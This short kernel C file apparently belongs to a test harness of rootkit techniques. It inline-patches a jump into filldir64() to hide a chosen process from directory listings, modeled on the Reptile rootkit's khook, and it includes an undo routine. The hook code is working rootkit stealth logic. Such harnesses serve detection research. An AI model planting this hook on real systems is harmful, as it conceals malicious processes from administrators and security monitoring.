// SPDX-License-Identifier: GPL-2.0
/* A jump over the beginning of filldir64(), to leave a process out of listings (Reptile's khook; it
 * needs no copy of what it overwrites, since that is ftrace's NOP). */
#include <linux/kernel.h>
#include <linux/string.h>

#include "kernel.h"
#include "vtest.h"

static u8 *site, old[5];

static int start(const char *variant, int pid)
{
	u8 jump[5];

	site = entry_nop("filldir64");
	if (!site)
		return -EBUSY;
	filter_pid(pid);
	real_filldir = (filldir_fn *)(site + 5);
	memcpy(old, site, sizeof(old));
	make_jump(jump, site, filter_entry);
	return poke(site, jump, sizeof(jump));
}

static void undo(void)
{
	poke(site, old, sizeof(old));
}

const struct trick inline_trick = {"inline", start, undo};
